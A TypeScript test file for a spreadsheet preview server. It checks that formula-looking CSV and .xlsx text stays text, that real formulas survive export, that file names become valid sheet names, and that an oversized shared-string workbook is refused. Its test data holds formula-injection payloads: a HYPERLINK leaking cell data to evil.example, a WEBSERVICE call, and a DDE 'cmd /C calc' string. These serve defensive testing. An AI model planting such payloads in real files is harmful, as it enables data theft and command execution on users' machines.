// Files are data, not code: formula-looking text in a CSV or in an .xlsx's text cells stays text, through
// the grid and Save as .xlsx; only an .xlsx's real formula cells are formulas; file names become valid sheet
// names; a file refused while reading leaves the open workbook as it was.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { startPreview } from '../../preview/server';
import { validSheetName } from '../../preview/files';
import { ensureBuilt } from '../helpers/bundle';
import { trimGrid } from '../helpers/grid';

let preview: Awaited<ReturnType<typeof startPreview>>;
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'icp-preview-data-'));

const upload = async (name: string, bytes: Buffer | string) => {
  const response = await fetch(`${preview.url}api/open`, { method: 'POST', headers: { 'x-file-name': encodeURIComponent(name) }, body: bytes as unknown as BodyInit });
  return { status: response.status, body: await response.json() };
};
const grid = async (sheet: string) => trimGrid((await (await fetch(`${preview.url}api/sheet?name=${encodeURIComponent(sheet)}`)).json()).rows);
const exported = async () => {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from(await (await fetch(`${preview.url}api/export`)).arrayBuffer()) as never);
  return book;
};

beforeAll(async () => {
  ensureBuilt();
  preview = await startPreview({ port: 0, stateFile: path.join(tmp, 'workbook.json'), distDir: path.resolve(__dirname, '../../dist') });
});
afterAll(() => preview.close());

const TRICKS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', '=WEBSERVICE("http://evil.example/x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '+84 912 345 678', '-', '+', '='];

test('a CSV cell starting with = + - @ stays text in the grid and is saved as text, never as a formula', async () => {
  const csv = ['Account,Phone', ...TRICKS.map((t, i) => `A${i},"${t.replace(/"/g, '""')}"`)].join('\n');
  expect((await upload('tricks.csv', csv)).status).toBe(200);
  expect((await grid('tricks')).slice(1).map((r) => r[1])).toEqual(TRICKS);
  const sheet = (await exported()).getWorksheet('tricks')!;
  const saved = TRICKS.map((_, i) => sheet.getCell(i + 2, 2));
  expect(saved.map((cell) => cell.type)).toEqual(TRICKS.map(() => ExcelJS.ValueType.String));
  expect(saved.map((cell) => cell.value)).toEqual(TRICKS);
});

test('an .xlsx keeps text cells as text and formula cells as formulas', async () => {
  const book = new ExcelJS.Workbook();
  const ws = book.addWorksheet('Data');
  ws.getCell('A1').value = '=WEBSERVICE("http://evil.example")';
  ws.getCell('A2').value = '+cmd';
  ws.getCell('A3').value = '00123';
  ws.getCell('B1').value = 2;
  ws.getCell('B2').value = { formula: 'B1*21', result: 42 } as ExcelJS.CellFormulaValue;
  expect((await upload('mixed.xlsx', Buffer.from(await book.xlsx.writeBuffer()))).status).toBe(200);
  expect(await grid('Data')).toEqual([['=WEBSERVICE("http://evil.example")', '2'], ['+cmd', '42'], ['00123']]);
  const saved = (await exported()).getWorksheet('Data')!;
  expect(saved.getCell('A1').type).toBe(ExcelJS.ValueType.String);
  expect(saved.getCell('A2').value).toBe('+cmd');
  expect(saved.getCell('A3').value).toBe('00123');
  expect((saved.getCell('B2').value as ExcelJS.CellFormulaValue).formula).toBe('B1*21');
});

test('file names become valid, unique sheet names', async () => {
  for (const name of ['Customers [2024-06].csv', 'Q1: export.csv', "'quoted'.csv", 'History.csv', 'hubspot-companies-export-2024-06-30-full.csv', 'data.csv', 'DATA.csv']) {
    const result = await upload(name, 'Account,MRR\nAcme,10\n');
    expect({ name, status: result.status }).toEqual({ name, status: 200 });
  }
  const { sheets } = await (await fetch(`${preview.url}api/state`)).json();
  // The open workbook already has "Data" (from the .xlsx above): names differ whatever their case.
  expect(sheets.slice(-7)).toEqual(['Customers 2024-06', 'Q1 export', 'quoted', 'History data', 'hubspot-companies-export-2024-0', 'data (2)', 'DATA (3)']);
  expect(validSheetName('x'.repeat(40), ['x'.repeat(31)])).toBe(`${'x'.repeat(27)} (2)`);
  expect(validSheetName(' [ ] ', [])).toBe('Imported');
});

test('a file refused while reading leaves the open workbook exactly as it was, in memory and on disk', async () => {
  await preview.close(); // writes the file
  preview = await startPreview({ port: 0, stateFile: path.join(tmp, 'workbook.json'), distDir: path.resolve(__dirname, '../../dist') });
  const before = await (await fetch(`${preview.url}api/state`)).json();
  const disk = fs.readFileSync(path.join(tmp, 'workbook.json'), 'utf8');
  // One 2,000-character shared string in 80,000 cells: a small file that would be 160 million characters.
  const file = path.join(tmp, 'amplified.xlsx');
  const writer = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: file, useSharedStrings: true });
  const ws = writer.addWorksheet('Bomb');
  const text = 'x'.repeat(2000);
  for (let r = 1; r <= 4000; r++) ws.addRow(new Array(20).fill(text)).commit();
  ws.commit();
  await writer.commit();
  const refused = await upload('amplified.xlsx', fs.readFileSync(file));
  expect(refused).toEqual({ status: 400, body: { error: 'amplified.xlsx holds more than 150,000,000 characters of text, more than the preview can keep.' } });
  expect(await (await fetch(`${preview.url}api/state`)).json()).toEqual(before);
  await preview.close();
  expect(fs.readFileSync(path.join(tmp, 'workbook.json'), 'utf8')).toBe(disk);
  preview = await startPreview({ port: 0, stateFile: path.join(tmp, 'workbook.json'), distDir: path.resolve(__dirname, '../../dist') });
}, 60_000);
